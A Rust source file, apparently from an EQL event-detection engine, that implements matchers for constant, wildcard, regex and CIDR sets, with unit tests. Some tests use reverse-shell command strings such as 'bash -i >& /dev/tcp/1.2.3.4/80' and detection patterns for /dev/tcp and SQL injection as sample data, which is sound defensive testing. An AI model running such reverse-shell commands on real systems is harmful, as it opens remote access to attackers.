//! Runtime matchers built once when a program loads: constant sets (hashed when large),
//! wildcard sets (exact / prefix / suffix / contains fast paths, the rest in one automaton;
//! up to 64 contains patterns are also searched in one pass in strings of up to 512 bytes,
//! `scan.rs`),
//! regular-expression sets, and CIDR sets as sorted address ranges.

use crate::glob::Glob;
use crate::lits::{eq_byte, Lits};
use crate::scan::{self, Head, Scan};
use crate::value::{canonical, Scalar};
use ahash::AHashSet;
use aho_corasick::AhoCorasick;
use eql_bytecode::{CidrSet, ConstSet, ConstVal, RegexSet, WildcardSet};
use regex_automata::meta::Regex;
use regex_automata::util::syntax;
use std::net::IpAddr;

/// A constant set ready for lookups; its strings are kept as bytes, so that event strings are
/// compared without turning them into `str` first.
#[derive(Debug)]
pub struct RtSet {
    small: Vec<Box<[u8]>>,
    hashed: AHashSet<Box<[u8]>>,
    numbers: Vec<f64>,
    ips: Vec<IpAddr>,
    bools: Vec<bool>,
    pub case_insensitive: bool,
}

const HASH_FROM: usize = 8;

impl RtSet {
    pub fn new(set: &ConstSet) -> RtSet {
        let mut rt = RtSet {
            small: Vec::new(),
            hashed: AHashSet::new(),
            numbers: Vec::new(),
            ips: Vec::new(),
            bools: Vec::new(),
            case_insensitive: set.case_insensitive,
        };
        let mut strings = Vec::new();
        for item in &set.items {
            match item {
                ConstVal::Str(s) => {
                    let s = if set.case_insensitive {
                        s.to_ascii_lowercase()
                    } else {
                        s.clone()
                    };
                    // A string member also matches an IP field holding that address.
                    if let Ok(ip) = s.parse::<IpAddr>() {
                        rt.ips.push(canonical(ip));
                    }
                    strings.push(s.into_bytes().into_boxed_slice());
                }
                ConstVal::Int(i) => rt.numbers.push(*i as f64),
                ConstVal::Float(x) => rt.numbers.push(*x),
                ConstVal::Ip(ip) => rt.ips.push(canonical(*ip)),
                ConstVal::Bool(b) => rt.bools.push(*b),
                ConstVal::Null => {}
            }
        }
        if strings.len() >= HASH_FROM {
            rt.hashed = strings.into_iter().collect();
        } else {
            rt.small = strings;
        }
        rt
    }

    /// Whether a string (already lower-cased when the set is case-insensitive) is a member.
    #[inline]
    fn has_bytes(&self, s: &[u8]) -> bool {
        if self.hashed.is_empty() {
            self.small.iter().any(|m| m.len() == s.len() && **m == *s)
        } else {
            self.hashed.contains(s)
        }
    }

    /// Whether the string with bytes `s` is a member (`buf`: scratch for case folding).
    #[inline]
    pub fn contains_bytes(&self, s: &[u8], buf: &mut Vec<u8>) -> bool {
        if self.case_insensitive && s.iter().any(u8::is_ascii_uppercase) {
            buf.clear();
            buf.extend_from_slice(s);
            buf.make_ascii_lowercase();
            self.has_bytes(buf)
        } else {
            self.has_bytes(s)
        }
    }

    pub fn contains(&self, v: Scalar<'_>, buf: &mut Vec<u8>) -> bool {
        match v {
            Scalar::Str(s) => self.contains_bytes(s.as_bytes(), buf),
            Scalar::Int(i) | Scalar::Date(i) => self.numbers.contains(&(i as f64)),
            Scalar::Float(x) => self.numbers.contains(&x),
            Scalar::Ip(ip) => self.ips.contains(&canonical(ip)),
            Scalar::Bool(b) => self.bools.contains(&b),
            Scalar::Null | Scalar::Object => false,
        }
    }
}

/// One fast-path wildcard shape.
#[derive(Debug)]
enum Shape {
    Exact(String),
    Prefix(String),
    Suffix(String),
    /// `*` alone, or patterns that match everything.
    Any,
    /// Only `?`s and `*`s, some of each or `?`s alone: a test of the string's length in
    /// characters (at least the `?`s' number when there is a `*`, exactly it otherwise).
    Chars(Chars),
}

/// A pattern of `?`s and `*`s: how many `?`s, and whether it has a `*`.
#[derive(Debug, Clone, Copy)]
struct Chars {
    count: usize,
    more: bool,
}

impl Chars {
    /// Whether a string of `s`'s length in characters matches (`s`: a `str`'s bytes).
    #[inline]
    fn admit(self, s: &[u8]) -> bool {
        // A character is 1 to 4 bytes: the byte length often settles it without counting.
        let (n, k) = (s.len(), self.count);
        if n < k || (!self.more && n.div_ceil(4) > k) {
            return false;
        }
        if self.more && n.div_ceil(4) >= k {
            return true;
        }
        let chars = s.iter().filter(|&&b| b & 0xc0 != 0x80).count();
        if self.more {
            chars >= k
        } else {
            chars == k
        }
    }
}

/// A wildcard set ready for matching.
#[derive(Debug)]
pub struct RtWildcard {
    /// Some pattern matches everything.
    any: bool,
    /// The patterns of `?`s and `*`s (tested with the general patterns).
    chars: Vec<Chars>,
    /// There are general patterns or patterns of `?`s and `*`s.
    wild: bool,
    /// The patterns without wildcards, `text*` and `*text` patterns, by shape (their text
    /// lower-cased when case-insensitive).
    exact: Lits,
    prefix: Lits,
    suffix: Lits,
    /// The `*text*` patterns' texts, as one automaton built when first needed.
    contains: Lazy<AhoCorasick>,
    /// The same needles as `contains`, for strings of up to [`SCANNED_MAX`] bytes, when there
    /// are at most [`scan::MAX`].
    scanned: Option<Scan>,
    /// The other patterns as one regex, for long strings, built when first needed.
    general: Lazy<Regex>,
    /// The same patterns one by one, each with the ends every match of it has (checked
    /// first: most values fail them, and they cost a comparison each).
    globs: Vec<(Ends, Glob)>,
    /// The globs' inner literals, found in one pass over a string the first time a glob's
    /// ends fit it (each glob's `Ends::bit` names its literal here).
    inner: Option<Scan>,
    case_insensitive: bool,
}

/// An automaton over several patterns, built the first time a match needs it. Building one
/// costs far more than loading anything else of a rule (~0.8 M instructions for a wildcard
/// set's regex), and most sets never need theirs: the general patterns' regex serves only
/// strings longer than [`GLOB_MAX`], the contains patterns' automaton only strings too long
/// for their direct search (or sets of more than a few needles). The patterns are escaped
/// literals and wildcards, so building fails only past the crates' size limits; [`Lazy::get`]
/// then answers `None`, and the caller matches pattern by pattern, with the same answers.
#[derive(Debug)]
struct Lazy<T> {
    patterns: Vec<String>,
    case_insensitive: bool,
    build: fn(&[String], bool) -> Option<T>,
    built: std::sync::OnceLock<Option<T>>,
}

impl<T> Lazy<T> {
    fn new(patterns: Vec<String>, ci: bool, build: fn(&[String], bool) -> Option<T>) -> Lazy<T> {
        Lazy {
            patterns,
            case_insensitive: ci,
            build,
            built: std::sync::OnceLock::new(),
        }
    }

    fn is_empty(&self) -> bool {
        self.patterns.is_empty()
    }

    /// The automaton, built on the first call; `None` when there are no patterns or it could
    /// not be built.
    fn get(&self) -> Option<&T> {
        if self.patterns.is_empty() {
            return None;
        }
        self.built
            .get_or_init(|| (self.build)(&self.patterns, self.case_insensitive))
            .as_ref()
    }

    /// Whether the automaton has been built (for tests).
    #[cfg(test)]
    fn built(&self) -> bool {
        self.built.get().is_some_and(Option::is_some)
    }
}

/// The general patterns' regex (their regex syntax already folds case where asked).
fn build_regex(patterns: &[String], _ci: bool) -> Option<Regex> {
    Regex::new_many(patterns).ok()
}

/// The contains patterns' automaton.
fn build_contains(needles: &[String], ci: bool) -> Option<AhoCorasick> {
    AhoCorasick::builder()
        .ascii_case_insensitive(ci)
        .build(needles)
        .ok()
}

/// Longest string the general patterns are matched on by [`Glob`] rather than the regex
/// (whose cost does not grow with the number of patterns or their stars).
const GLOB_MAX: usize = 512;

/// Longest string the contains patterns are looked for by [`Scan`] rather than the automaton
/// (whose search, with its prefilter, costs less a byte, but whose building costs as much as
/// scanning a few hundred kB).
const SCANNED_MAX: usize = 512;

/// What every match of a wildcard pattern has: the text before its first wildcard at the
/// start, the text after its last at the end, and between them its longest literal piece.
#[derive(Debug)]
struct Ends {
    /// ASCII lower-cased when the set ignores case, as are `suffix` and `inner`.
    prefix: Box<[u8]>,
    suffix: Box<[u8]>,
    inner: Box<[u8]>,
    /// The inner literal's first 8 bytes, for [`occurs_folded`].
    inner_head: Head,
    /// The three lengths summed: the shortest string that can match.
    min_len: usize,
    /// The inner literal's bit in the set's [`Scan`] (0: it has none, the literal is empty
    /// or the scan was full).
    bit: u64,
}

impl Ends {
    fn of(p: &str, ci: bool) -> Ends {
        let p = if ci {
            p.to_ascii_lowercase()
        } else {
            p.to_string()
        };
        let wild = ['*', '?'];
        let first = p.find(wild).unwrap_or(p.len());
        let last = p.rfind(wild).map_or(p.len(), |i| i + 1).max(first);
        let inner = p[first..last]
            .split(wild)
            .max_by_key(|piece| piece.len())
            .unwrap_or_default();
        Ends {
            prefix: p.as_bytes()[..first].into(),
            suffix: p.as_bytes()[last..].into(),
            inner: inner.as_bytes().into(),
            inner_head: Head::of(inner.as_bytes(), ci),
            min_len: first + (p.len() - last) + inner.len(),
            bit: 0,
        }
    }

    /// The part of `s` between the prefix and the suffix when `s` starts and ends as a match
    /// must and is long enough to hold the inner literal there as well (ASCII letters folded
    /// when `ci`).
    #[inline(always)]
    fn middle<'s>(&self, s: &'s [u8], ci: bool) -> Option<&'s [u8]> {
        let (p, x) = (&*self.prefix, &*self.suffix);
        if s.len() < self.min_len {
            return None;
        }
        // The suffix's last byte and the prefix's first, where most strings fail, first.
        if let (Some(&want), Some(&have)) = (x.last(), s.last()) {
            if !eq_byte(have, want, ci) {
                return None;
            }
        }
        if let (Some(&want), Some(&have)) = (p.first(), s.first()) {
            if !eq_byte(have, want, ci) {
                return None;
            }
        }
        let (head, middle, tail) = (
            &s[..p.len()],
            &s[p.len()..s.len() - x.len()],
            &s[s.len() - x.len()..],
        );
        let ends = if ci {
            head.eq_ignore_ascii_case(p) && tail.eq_ignore_ascii_case(x)
        } else {
            head == p && tail == x
        };
        ends.then_some(middle)
    }

    /// Whether the inner literal occurs in `middle` (ASCII letters folded when `ci`).
    #[inline]
    fn occurs_in(&self, middle: &[u8], ci: bool) -> bool {
        if ci {
            occurs_folded(middle, &self.inner, &self.inner_head)
        } else {
            memchr::memmem::find(middle, &self.inner).is_some()
        }
    }

    /// Whether `s` starts, ends and has in between what a match must.
    #[inline]
    fn admit(&self, s: &[u8], ci: bool) -> bool {
        self.middle(s, ci)
            .is_some_and(|middle| self.occurs_in(middle, ci))
    }
}

/// The scan for the globs' distinct non-empty inner literals (the first [`scan::MAX`]), each
/// glob's `Ends::bit` set to its literal's.
fn inner_scan(globs: &mut [(Ends, Glob)], ci: bool) -> Option<Scan> {
    let mut needles: Vec<Box<[u8]>> = Vec::new();
    for (ends, _) in globs.iter_mut() {
        if ends.inner.is_empty() {
            continue;
        }
        // Already lower-cased when the set ignores case (`Ends::of`): equal bytes suffice.
        let j = match needles.iter().position(|n| *n == ends.inner) {
            Some(j) => j,
            None if needles.len() < scan::MAX => {
                needles.push(ends.inner.clone());
                needles.len() - 1
            }
            None => continue,
        };
        ends.bit = 1 << j;
    }
    let refs: Vec<&[u8]> = needles.iter().map(|n| &**n).collect();
    Scan::new(&refs, ci)
}

/// Whether `needle` occurs in `hay`, ASCII letters compared case-insensitively when `ci`.
#[inline]
fn occurs(hay: &[u8], needle: &[u8], ci: bool) -> bool {
    if ci {
        occurs_folded(hay, needle, &Head::of(needle, true))
    } else {
        memchr::memmem::find(hay, needle).is_some()
    }
}

/// Whether `needle` (lower-cased; `head`: its [`Head`], folded) occurs in `hay` with ASCII
/// letters compared case-insensitively: at each place its first letter is, in either case,
/// the next 8 bytes are compared with its first 8 at once where 8 are left.
fn occurs_folded(hay: &[u8], needle: &[u8], head: &Head) -> bool {
    let Some(&first) = needle.first() else {
        return true;
    };
    let Some(last_start) = hay.len().checked_sub(needle.len()) else {
        return false;
    };
    let (lo, up) = (first.to_ascii_lowercase(), first.to_ascii_uppercase());
    let candidates = hay.get(..=last_start).unwrap_or_default();
    memchr::memchr2_iter(lo, up, candidates).any(|i| {
        let rest = hay.get(i..).unwrap_or_default();
        let word = rest.first_chunk::<8>().map(|w| u64::from_le_bytes(*w));
        head.starts(word, rest, needle, true)
    })
}

fn classify(p: &str) -> Option<Result<Shape, String>> {
    let inner_wild = |s: &str| s.contains(['*', '?']);
    if !inner_wild(p) {
        return Some(Ok(Shape::Exact(p.to_string())));
    }
    if p.chars().all(|c| c == '*') {
        return Some(Ok(Shape::Any));
    }
    if p.chars().all(|c| c == '*' || c == '?') {
        let count = p.chars().filter(|&c| c == '?').count();
        let more = p.contains('*');
        return Some(Ok(Shape::Chars(Chars { count, more })));
    }
    if let Some(body) = p.strip_prefix('*').and_then(|b| b.strip_suffix('*')) {
        if !inner_wild(body) {
            return Some(Err(body.to_string()));
        }
    }
    if let Some(body) = p.strip_suffix('*') {
        if !inner_wild(body) {
            return Some(Ok(Shape::Prefix(body.to_string())));
        }
    }
    if let Some(body) = p.strip_prefix('*') {
        if !inner_wild(body) {
            return Some(Ok(Shape::Suffix(body.to_string())));
        }
    }
    None
}

/// The regex (regex-syntax syntax) for a wildcard pattern; case folding, when asked, is
/// ASCII-only, as Elasticsearch does it.
pub fn wildcard_regex(p: &str, ci: bool) -> String {
    let mut out = String::from(r"\A");
    for c in p.chars() {
        match c {
            '*' => out.push_str("(?s:.*)"),
            '?' => out.push_str("(?s:.)"),
            c if ci && c.is_ascii_alphabetic() => {
                out.push('[');
                out.push(c.to_ascii_lowercase());
                out.push(c.to_ascii_uppercase());
                out.push(']');
            }
            c => out.push_str(&regex_syntax::escape(c.encode_utf8(&mut [0; 4]))),
        }
    }
    out.push_str(r"\z");
    out
}

impl RtWildcard {
    pub fn new(set: &WildcardSet) -> RtWildcard {
        let ci = set.case_insensitive;
        let fold = |s: String| {
            let s = if ci { s.to_ascii_lowercase() } else { s };
            s.into_bytes().into_boxed_slice()
        };
        let mut any = false;
        let mut chars = Vec::new();
        let (mut exact, mut prefix, mut suffix) = (Vec::new(), Vec::new(), Vec::new());
        let mut contains = Vec::new();
        let mut general = Vec::new();
        let mut globs = Vec::new();
        for p in &set.patterns {
            match classify(p) {
                Some(Ok(Shape::Exact(s))) => exact.push(fold(s)),
                Some(Ok(Shape::Prefix(s))) => prefix.push(fold(s)),
                Some(Ok(Shape::Suffix(s))) => suffix.push(fold(s)),
                Some(Ok(Shape::Any)) => any = true,
                Some(Ok(Shape::Chars(c))) => chars.push(c),
                Some(Err(body)) => contains.push(body),
                None => {
                    general.push(wildcard_regex(p, ci));
                    globs.push((Ends::of(p, ci), Glob::new(p, ci)));
                }
            }
        }
        let needles: Vec<&[u8]> = contains.iter().map(|n| n.as_bytes()).collect();
        let scanned = Scan::new(&needles, ci);
        let contains = Lazy::new(contains, ci, build_contains);
        let general = Lazy::new(general, ci, build_regex);
        let inner = inner_scan(&mut globs, ci);
        RtWildcard {
            any,
            wild: !(globs.is_empty() && chars.is_empty()),
            chars,
            exact: Lits::new(exact),
            prefix: Lits::new(prefix),
            suffix: Lits::new(suffix),
            contains,
            scanned,
            general,
            globs,
            inner,
            case_insensitive: ci,
        }
    }

    pub fn matches(&self, s: &str) -> bool {
        self.matches_bytes(s.as_bytes())
    }

    /// [`RtWildcard::matches`] on a `str`'s bytes (a string value read without the
    /// character-boundary checks of making it a `str`).
    pub fn matches_bytes(&self, bytes: &[u8]) -> bool {
        let ci = self.case_insensitive;
        self.any
            || self.exact.exact(bytes, ci)
            || self.prefix.prefix(bytes, ci)
            || self.suffix.suffix(bytes, ci)
            || (!self.contains.is_empty() && self.contains_match(bytes))
            || (self.wild && self.general_match(bytes))
    }

    /// Whether some `*text*` pattern matches (out of line, as the automaton's search needs
    /// a large frame).
    #[inline(never)]
    fn contains_match(&self, bytes: &[u8]) -> bool {
        if let Some(scan) = self.scanned.as_ref().filter(|_| bytes.len() <= SCANNED_MAX) {
            return scan.any(bytes);
        }
        match self.contains.get() {
            Some(ac) => ac.is_match(bytes),
            None => self
                .contains
                .patterns
                .iter()
                .any(|n| occurs(bytes, n.as_bytes(), self.case_insensitive)),
        }
    }

    /// Whether some general pattern, or pattern of `?`s and `*`s, matches.
    #[inline(never)]
    fn general_match(&self, bytes: &[u8]) -> bool {
        if self.chars.iter().any(|c| c.admit(bytes)) {
            return true;
        }
        let ci = self.case_insensitive;
        if bytes.len() <= GLOB_MAX {
            // The first glob whose ends fit searches for its inner literal by itself; from
            // the second on, all the literals are looked for in one pass (which costs about
            // as much as one search), and a glob whose literal is not there is turned away.
            let (mut searched, mut found) = (false, u64::MAX);
            return self.globs.iter().any(|(ends, glob)| {
                let Some(middle) = ends.middle(bytes, ci) else {
                    return false;
                };
                if ends.bit != 0 {
                    if searched && found == u64::MAX {
                        found = self.inner.as_ref().map_or(u64::MAX, |s| s.found(bytes));
                    }
                    if found & ends.bit == 0 {
                        return false;
                    }
                    searched = true;
                }
                ends.occurs_in(middle, ci) && glob.matches(bytes)
            });
        }
        if !self.globs.iter().any(|(ends, _)| ends.admit(bytes, ci)) {
            return false;
        }
        match self.general.get() {
            Some(re) => re.is_match(bytes),
            None => self.globs.iter().any(|(_, glob)| glob.matches(bytes)),
        }
    }
}

/// A regular-expression set ready for matching.
#[derive(Debug)]
pub struct RtRegex {
    re: Regex,
}

/// An EQL regex as the VM runs it: the whole string must match. The prefilter reads its
/// literal atoms off the same text.
pub(crate) fn anchored_regex(pattern: &str) -> String {
    format!(r"\A(?:{pattern})\z")
}

impl RtRegex {
    pub fn new(set: &RegexSet) -> Result<RtRegex, String> {
        let anchored: Vec<String> = set.patterns.iter().map(|p| anchored_regex(p)).collect();
        let re = Regex::builder()
            .syntax(syntax::Config::new().case_insensitive(set.case_insensitive))
            .build_many(&anchored)
            .map_err(|e| format!("regex set: {e}"))?;
        Ok(RtRegex { re })
    }

    pub fn matches(&self, s: &str) -> bool {
        self.re.is_match(s)
    }
}

/// A CIDR set as sorted, merged address ranges.
#[derive(Debug, Default)]
pub struct RtCidr {
    v4: Vec<(u32, u32)>,
    v6: Vec<(u128, u128)>,
}

fn merge<T: Ord + Copy>(mut ranges: Vec<(T, T)>) -> Vec<(T, T)> {
    ranges.sort();
    let mut out: Vec<(T, T)> = Vec::with_capacity(ranges.len());
    for (lo, hi) in ranges {
        match out.last_mut() {
            Some(last) if lo <= last.1 => last.1 = last.1.max(hi),
            _ => out.push((lo, hi)),
        }
    }
    out
}

fn within<T: Ord + Copy>(ranges: &[(T, T)], x: T) -> bool {
    let i = ranges.partition_point(|r| r.0 <= x);
    i > 0 && ranges[i - 1].1 >= x
}

impl RtCidr {
    pub fn new(set: &CidrSet) -> RtCidr {
        let mut v4 = Vec::new();
        let mut v6 = Vec::new();
        for net in &set.nets {
            match net {
                ipnet::IpNet::V4(n) => v4.push((u32::from(n.network()), u32::from(n.broadcast()))),
                ipnet::IpNet::V6(n) => {
                    v6.push((u128::from(n.network()), u128::from(n.broadcast())))
                }
            }
        }
        RtCidr {
            v4: merge(v4),
            v6: merge(v6),
        }
    }

    pub fn contains(&self, ip: IpAddr) -> bool {
        match canonical(ip) {
            IpAddr::V4(a) => within(&self.v4, u32::from(a)),
            IpAddr::V6(a) => within(&self.v6, u128::from(a)),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn wc(patterns: &[&str], ci: bool) -> RtWildcard {
        let set = WildcardSet {
            patterns: patterns.iter().map(|s| s.to_string()).collect(),
            case_insensitive: ci,
        };
        RtWildcard::new(&set)
    }

    #[test]
    fn wildcard_shapes() {
        let w = wc(&["*/dev/tcp/*", "bash", "/usr/*", "*.exe", "a?c*d"], true);
        assert!(w.matches("sh -i >& /DEV/TCP/1.2.3.4/80"));
        assert!(w.matches("BASH"));
        assert!(w.matches("/USR/bin/x"));
        assert!(w.matches("evil.EXE"));
        assert!(w.matches("abcXd"));
        assert!(
            w.matches("aécd"),
            "? is one character, even a multi-byte one"
        );
        assert!(!w.matches("abd"));
        assert!(!w.matches("bash2"));
        let cs = wc(&["*/dev/tcp/*"], false);
        assert!(!cs.matches("/DEV/TCP/x"));
        // Long strings go to the automaton, short ones to the direct search.
        let long = format!("{}/DEV/TCP/1.2.3.4/80", "x".repeat(SCANNED_MAX));
        assert!(w.matches(&long) && !cs.matches(&long));
        assert!(cs.matches(&long.to_ascii_lowercase()));
    }

    #[test]
    fn general_patterns_agree_with_their_regex() {
        let patterns = [
            "a?c*d",
            "*mcp*start*",
            "*%28*SeLeCt%20*",
            "a*bc?d*e",
            "*\\x\\*.exe",
            "C:\\*\\run?.bat",
            "ab*ab",
            "?",
            "a*",
            "*?b",
            "x*y*z",
            "é*è?",
        ];
        let values = [
            "",
            "a",
            "ab",
            "abab",
            "aXcd",
            "abcYYd",
            "AbCd",
            "c:\\dir\\run1.bat",
            "C:\\dir\\RUN1.BAT",
            "C:\\run.bat",
            "q\\X\\w.EXE",
            "\\x\\.exe",
            "xyz",
            "XaYbZ",
            "éaèb",
            "npx MCP-START",
            "mcpstart",
            "startmcp",
            "x%28 select%20",
            "%28select%20",
            "abcxde",
            "abcde",
            "aBCxdE",
            "ÉaÈb",
            "é",
            "b",
            "ééb",
        ];
        for ci in [false, true] {
            for p in patterns {
                let w = wc(&[p], ci);
                let re = match Regex::new(&wildcard_regex(p, ci)) {
                    Ok(r) => r,
                    Err(e) => panic!("{p}: {e}"),
                };
                for v in values {
                    assert_eq!(w.matches(v), re.is_match(v), "{p:?} on {v:?}, ci {ci}");
                }
            }
        }
    }

    /// Sets of several general patterns (inner literals shared, alike but for case, or a
    /// piece of one another; some empty), matched on random strings made of the patterns'
    /// pieces, against the set's regexes: the one pass for all inner literals must turn away
    /// only what no pattern matches.
    #[test]
    fn sets_of_general_patterns_agree_with_their_regexes() {
        let sets: [&[&str]; 3] = [
            &[
                "*a*bc*",
                "*x*BC*",
                "?:\\p f\\*.exe",
                "?:\\P F\\*.exe",
                "q*z",
                "?*?Q",
            ],
            &["*@80\\*", "*@8080\\*", "*\\*.*@443\\*", "*a?*b", "*é*b*"],
            &["*^*", "*`*", "*+*", "*^^*x", "Bc*a*", "?bc*"],
        ];
        let pieces = [
            "a", "A", "bc", "BC", "x", "q", "z", "C:", "\\", "p f", "P F", ".exe", "@80", "@8080",
            "@443", "é", "^", "`", "+", "b", " ",
        ];
        let mut next = crate::test_util::xorshift(0x2545_f491_4f6c_dd1du64);
        let mut hits = 0;
        for ci in [false, true] {
            for patterns in sets {
                let w = wc(patterns, ci);
                let res: Vec<Regex> = patterns
                    .iter()
                    .filter_map(|p| Regex::new(&wildcard_regex(p, ci)).ok())
                    .collect();
                assert_eq!(res.len(), patterns.len());
                for _ in 0..3000 {
                    let v: String = (0..next(8)).map(|_| pieces[next(pieces.len())]).collect();
                    let want = res.iter().any(|re| re.is_match(&v));
                    assert_eq!(w.matches(&v), want, "{patterns:?} on {v:?}, ci {ci}");
                    hits += usize::from(want);
                }
            }
        }
        assert!(
            hits > 3000,
            "only {hits} matches: the test checks too little"
        );
    }

    /// Patterns of `?`s and `*`s, a test of length in characters, against their regexes on
    /// strings of one- to four-byte characters.
    #[test]
    fn patterns_of_question_marks_and_stars_count_characters() {
        let alphabet = ['a', 'é', '€', '𝄞'];
        let patterns = [
            "?", "??", "???", "?*", "*?", "?*?", "*??*", "????*", "?????",
        ];
        let mut next = crate::test_util::xorshift(0x9e37_79b9_7f4a_7c15u64);
        let mut hits = 0;
        for p in patterns {
            assert!(matches!(classify(p), Some(Ok(Shape::Chars(_)))), "{p}");
            let w = wc(&[p], true);
            let re = match Regex::new(&wildcard_regex(p, true)) {
                Ok(r) => r,
                Err(e) => panic!("{p}: {e}"),
            };
            for _ in 0..400 {
                let v: String = (0..next(8))
                    .map(|_| alphabet[next(alphabet.len())])
                    .collect();
                let want = re.is_match(&v);
                assert_eq!(w.matches(&v), want, "{p:?} on {v:?}");
                hits += usize::from(want);
            }
        }
        assert!(
            hits > 1000,
            "only {hits} matches: the test checks too little"
        );
    }

    #[test]
    fn the_general_regex_is_built_for_the_first_long_string() {
        // Patterns that need the general matcher: short strings never build the regex, the
        // first string longer than GLOB_MAX does, and a regex that cannot be built leaves
        // long strings to the globs, with the same answers.
        let long_hit = format!("a{}bcXd{}e", "-".repeat(GLOB_MAX), "+".repeat(10));
        let long_miss = format!("a{}bcXd{}f", "-".repeat(GLOB_MAX), "+".repeat(10));
        for ci in [false, true] {
            let w = wc(&["a*bc?d*e", "x*y*z"], ci);
            assert!(!w.general.built());
            assert!(w.matches("abcXde") && !w.matches("abcXdf"));
            assert!(!w.general.built(), "short strings need no regex");
            assert!(w.matches(&long_hit));
            assert!(w.general.built());
            assert!(!w.matches(&long_miss));
            let mut broken = wc(&["a*bc?d*e", "x*y*z"], ci);
            broken.general = Lazy::new(vec!["(".to_string()], ci, build_regex);
            assert!(broken.matches(&long_hit) && !broken.matches(&long_miss));
            assert!(!broken.general.built());
        }
    }

    #[test]
    fn the_contains_automaton_is_built_for_the_first_string_that_needs_it() {
        // Up to 64 needles: strings of up to SCANNED_MAX bytes are scanned, a longer one builds
        // the automaton. More needles: any string builds it. One that cannot be built answers
        // alike.
        let long = |s: &str| format!("{}{s}{}", "x".repeat(SCANNED_MAX), "y".repeat(5));
        for ci in [false, true] {
            let w = wc(&["*/dev/tcp/*", "*zsh/net*"], ci);
            assert!(w.matches("bash -i >& /dev/tcp/1.2.3.4/80") && !w.matches("bash -l"));
            assert!(!w.contains.built(), "short strings need no automaton");
            assert!(w.matches(&long("/dev/tcp/")) && !w.matches(&long("/dev/udp/")));
            assert!(w.contains.built());
            assert_eq!(w.matches(&long("/DEV/TCP/")), ci);
            let needles: Vec<String> = (0..=scan::MAX).map(|i| format!("*needle{i}*")).collect();
            let many: Vec<&str> = needles.iter().map(String::as_str).collect();
            let w = wc(&many, ci);
            assert!(w.matches("a needle7 b") && !w.matches("a needle b"));
            assert!(w.contains.built());
            let cases = [
                (wc(&["*/dev/tcp/*", "*zsh/net*"], ci), "zsh/net", "zsh/ne"),
                (wc(&many, ci), "needle64", "needle "),
            ];
            for (mut broken, hit, miss) in cases {
                broken.contains = Lazy::new(broken.contains.patterns.clone(), ci, |_, _| None);
                assert!(broken.matches(&long(hit)) && !broken.matches(&long(miss)));
                assert!(broken.matches(hit) && !broken.matches(miss));
                assert_eq!(broken.matches(&long(&hit.to_ascii_uppercase())), ci);
                assert!(!broken.contains.built());
            }
        }
    }

    /// The folded search against a plain one over lower-cased copies, with needles of 1 to
    /// 12 bytes planted in either case near the ends and in the middle of random strings.
    #[test]
    fn occurs_folded_agrees_with_a_plain_search() {
        let alphabet = b"aAbB@`[{zZ\\.0";
        let mut next = crate::test_util::xorshift(0x0cc0_5eed);
        let mut found = 0;
        for _ in 0..20000 {
            let needle: Vec<u8> = (0..1 + next(12))
                .map(|_| alphabet[next(alphabet.len())].to_ascii_lowercase())
                .collect();
            let mut hay: Vec<u8> = (0..next(30))
                .map(|_| alphabet[next(alphabet.len())])
                .collect();
            if next(2) == 0 {
                let at = [0, hay.len() / 2, hay.len()][next(3)];
                let planted: Vec<u8> = needle
                    .iter()
                    .map(|&b| {
                        if next(2) == 0 {
                            b.to_ascii_uppercase()
                        } else {
                            b
                        }
                    })
                    .collect();
                hay.splice(at..at, planted);
            }
            let want = hay
                .to_ascii_lowercase()
                .windows(needle.len())
                .any(|w| w == needle.as_slice());
            let head = Head::of(&needle, true);
            assert_eq!(
                occurs_folded(&hay, &needle, &head),
                want,
                "{needle:?} in {hay:?}"
            );
            found += usize::from(want);
        }
        assert!(found > 8000, "{found}");
    }

    #[test]
    fn case_folding_is_ascii_only() {
        let w = wc(&["é*"], true);
        assert!(!w.matches("É"));
    }

    #[test]
    fn cidr_ranges() {
        let nets = ["127.0.0.0/8", "169.254.0.0/16", "::1/128"]
            .iter()
            .filter_map(|n| n.parse().ok())
            .collect();
        let c = RtCidr::new(&CidrSet { nets });
        let ip = |s: &str| s.parse::<IpAddr>().unwrap_or(IpAddr::from([0, 0, 0, 0]));
        assert!(c.contains(ip("127.1.2.3")));
        assert!(c.contains(ip("::1")));
        assert!(c.contains(ip("::ffff:127.0.0.1")));
        assert!(!c.contains(ip("128.0.0.1")));
        assert!(!c.contains(ip("::2")));
    }
}
